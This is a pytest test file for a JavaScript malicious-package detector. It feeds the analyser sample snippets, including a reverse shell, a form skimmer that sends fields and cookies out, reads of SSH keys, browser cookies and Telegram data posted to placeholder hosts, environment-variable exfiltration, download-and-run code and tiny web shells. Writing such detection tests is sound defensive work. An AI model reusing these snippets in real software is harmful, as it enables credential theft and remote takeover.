"""Snippets and what they mean: front end and catalogue together."""

import pytest

from packamal.detectors.interpret import interpret
from packamal.detectors.javascript import read
from packamal.detectors.units import Language, Unit
from packamal.model import Role

TABLE = 'var t="htps:/.exmalocn?d=rg";'


def spelt(text: str) -> str:
    table = "htps:/.exmalocn?d=rg"
    return "+".join(f"t[{table.index(character)}]" for character in text)


def signals_of(source: str):
    unit = Unit("index.js", "index.js", source.encode(), Language.JAVASCRIPT, Role.IMPORT)
    observed = interpret(read([unit], {unit.path: unit}), {unit.name: unit}, "javascript", "a.tgz")
    shown = [f"{signal.id} {signal.target}".strip() for signal in observed.signals]
    return shown, {f"{shown[flow.source]} -> {shown[flow.sink]}" for flow in observed.flows}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (f"{TABLE} fetch({spelt('https://exam.cc')})", ["decode.chars https://exam.cc"]),
        ("fetch(String.fromCharCode(104,116,116,112,115,58,47,47,97,46,99,111))", ["decode.chars https://a.co"]),
        ("f(Buffer.from([47,98,105,110,47,98,97,115,104]).toString())", ["decode.chars /bin/bash"]),
        ("f(['/', 't', 'm', 'p', '/', 'r', 'u', 'n'].join(''))", ["decode.chars /tmp/run"]),
        (
            "function d(a) { let s = ''; for (const c of a) s += String.fromCharCode(c ^ 1); return s; } "
            "f(d([105, 117, 117, 113, 59, 46, 46, 96, 47, 99, 110]))",
            ["decode.chars http://a.bo"],
        ),
        ("f(atob('aHR0cHM6Ly9hLmV4YW1wbGUvcA=='))", ["decode.text https://a.example/p"]),
        ("f(Buffer.from('L3RtcC9ydW4=', 'base64').toString())", ["decode.text /tmp/run"]),
        ("f(unescape('%68%74%74%70%3a%2f%2f%61%2e%62'))", ["decode.text http://a.b"]),
        ("require('\\x76\\x6d')['run']('x')", ["obf.names in escapes: vm", "obf.import vm"]),
        ("const k = 'ex' + 'ec'; require('child_process')[k]('id', f)", ["obf.import child_process.exec"]),
        ("global['ev' + 'al'](f)", ["obf.import eval"]),
        ("require('child_process').spawn('a', [], {detached: true, stdio: 'ignore'})", ["proc.hidden a"]),
        ("f(document.forms[0].elements[1].value)", ["input.keyboard value"]),
        ("f(document.querySelector('input[type=password]').value)", ["input.keyboard input[type=password]"]),
        ("new Image().src = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
        ("const x = new XMLHttpRequest(); x.open('GET', 'https://a.example/p')", ["net.fetch https://a.example/p"]),
        (
            "document.write('<script src=\"https://a.example/x.js\"></script>')",
            ['net.fetch <script src="https://a.example/x.js"></script>'],
        ),
        ("(function () {}).constructor('debu' + 'gger')()", ["anti.debug debugger"]),
        ("arguments[1]('child_process').exec('id', f)", ["proc.shell id"]),
        (
            "const t = ['bG9nMTIz', 'ZXhlY1N5', 'aGVsbG8x', 'ZmV0Y2gx', 'cmVhZDEy', 'b3BlbjEy'];"
            "function d(n) { return t[n - 1] }" + ";".join(f"f(d('0x{n}'))" for n in range(1, 7)),
            ["obf.strings 6 texts from d"],
        ),
        ("process.binding('spawn_sync').spawn({file: 'sh', args: ['sh']})", ["proc.exec sh"]),
        ("ethereum.request = x => x", ["code.hook request"]),
        (
            "f(require('fs').readFileSync(String.raw`${u}\\.ssh\\id_rsa`))",
            ["cred.read {u}\\.ssh\\id_rsa"],
        ),
        ("location.href = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
        ("document.createElement('script').src = 'https://a.example/x.js'", ["net.fetch https://a.example/x.js"]),
        (
            "document.forms[0].addEventListener('submit', function () { this.action = 'https://a.example/?' + x })",
            ["net.send https://a.example/?{x}"],
        ),
    ],
)
def test_a_snippet_means(source: str, expected: list[str]) -> None:
    shown, _ = signals_of(source)
    assert set(expected) <= set(shown)


@pytest.mark.parametrize(
    ("source", "family"),
    [
        ("const e = new Error(), k = 'sta' + 'ck'; f(e[k])", "obf."),
        ("const k = 'readFile'; require('fs')[k]('x', f)", "obf."),
        ("window['on' + 'click'] = f", "obf."),
        ("const t = ['a\\x1b[0m', '\\u2028']; f(t)", "obf."),
        ("const m = " + str([f"message number {n}" for n in range(20)]) + ";"
         + ";".join(f"f(m[{n}])" for n in range(20)), "obf."),
        ("require('child_process').exec('a', {windowsHide: true})", "proc.hidden"),
        ("require('child_process').spawn('a', [], {stdio: 'ignore'})", "proc.hidden"),
        ("f(unescape(encodeURIComponent(x)))", "decode."),
        ("f(String.fromCharCode(8232))", "decode."),
        ("f(['a', 'b', 'c'].join(''))", "decode."),
        ("document.createElement('img').src = path", "net."),
        ("const p = Object.getPrototypeOf(x); f(({}).hasOwnProperty.toString.call(p.constructor))", "code."),
        ("function p(o) { let c = Object.getPrototypeOf(o).constructor; return s.call(c) } p(() => 1); p(x)", "code."),
        ("f(document.getElementById('main').value)", "input."),
    ],
)  # fmt: skip
def test_an_ordinary_snippet_does_not(source: str, family: str) -> None:
    shown, _ = signals_of(source)
    assert not [signal for signal in shown if signal.startswith(family)]


def test_typed_fields_flow_to_an_address_that_is_spelt_out() -> None:
    source = f"""{TABLE} var u = {spelt("https://exam.cc/?d=")};
    document.forms[0].addEventListener("submit", function () {{
      let all = ""; for (let i = 0; i < this.elements.length; i++) all += this.elements[i].value;
      const l = document.createElement("link"); l.rel = "prefetch"; l.href = u + btoa(all + document.cookie);
    }});"""
    _, flows = signals_of(source)
    sink = "net.send https://exam.cc/?d={btoa()}"
    assert {f"decode.chars https://exam.cc/?d= -> {sink}", f"input.keyboard value -> {sink}"} <= flows
    assert f"cred.read -> {sink}" in flows


@pytest.mark.parametrize("write", ["r.pipe(o)", "r.on('data', d => o.write(d))", "r.on('data', d => { o.end(d) })"])
def test_what_is_fetched_goes_into_the_file_it_is_written_to_and_runs(write: str) -> None:
    _, flows = signals_of(
        "const fs = require('fs'); require('https').get('https://a.example/x', r => { "
        f"const o = fs.createWriteStream('/tmp/tool-x'); {write}; r.on('end', () => "
        "require('child_process').execFile('/tmp/tool-x', [], f)) })"
    )
    assert "net.fetch https://a.example/x -> file.write /tmp/tool-x" in flows
    assert "file.write /tmp/tool-x -> proc.exec /tmp/tool-x" in flows


FETCHES = (
    "require('https').get('https://a.example/j', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => {"
)


@pytest.mark.parametrize(
    ("source", "flow"),
    [
        (f"{FETCHES} eval(d) }}) }})", "net.fetch https://a.example/j -> code.eval"),
        (
            "require('axios').get('https://a.example/j').catch(e => eval(e.response.data))",
            "net.fetch https://a.example/j -> code.eval",
        ),
        (
            "Object.getPrototypeOf(async function () {}).constructor(atob('Y29uc29sZS5sb2coMSk='))()",
            "decode.text console.log(1) -> code.eval console.log(1)",
        ),
        (
            "import('child_process').then(c => c.exec('id', (e, o) => fetch('https://a.example/?' + o)))",
            "proc.shell id -> net.fetch https://a.example/?{o}",
        ),
        (
            "const {Resolver} = require('dns'); new Resolver().resolve4(require('os').hostname() + '.a.example')",
            "host.info os.hostname -> net.dns {os.hostname()}.a.example",
        ),
        (
            "require('net').connect(4444, '192.0.2.1', function () { const s = require('child_process').spawn('sh'); "
            "this.pipe(s.stdin); s.stdout.pipe(this) })",
            "proc.shell sh -> proc.reverse-shell {child_process.spawn().stdin}",
        ),
        (
            "const fs = require('fs'); fs.copyFileSync(d + '/Google/Chrome/User Data/Default/Cookies', "
            "'/tmp/jar-x'); require('axios').post('https://a.example', fs.readFileSync('/tmp/jar-x'))",
            "file.write /tmp/jar-x -> file.read /tmp/jar-x",
        ),
        (
            "require('http').createServer((q, s) => require('child_process').exec(q.headers.cmd, f)).listen(8080)",
            "net.listen -> proc.shell",
        ),
        (
            "const app = require('express')(); app.get('/x', (req, res) => res.send(eval(req.query.c)))",
            "net.listen /x -> code.eval",
        ),
        (
            "const F = require('basic-ftp'); new F.Client().uploadFrom(d + '/Telegram Desktop/tdata', 'x')",
            "messenger.read /Telegram Desktop/tdata -> net.send {d}/Telegram Desktop/tdata",
        ),
        (
            "const log = Buffer.alloc(65535); module.exports = (at, v) => { v = Buffer.from(v, 'hex'); "
            "for (let i = 0; i < v.length; i++) log[at + i] = v[i]; require('vm').runInThisContext(log.toString()) }",
            "decode.text -> code.eval",
        ),
        (
            "const f = new (require('form-data'))(); f.append('e', JSON.stringify(process.env)); "
            "require('axios').post('https://a.example', f)",
            "env.read.all -> net.send https://a.example",
        ),
        (
            "fetch('https://a.example', {method: 'POST', body: JSON.stringify(localStorage)})",
            "cred.read -> net.send https://a.example",
        ),
    ],
)
def test_data_flows(source: str, flow: str) -> None:
    _, flows = signals_of(source)
    assert flow in flows, flows
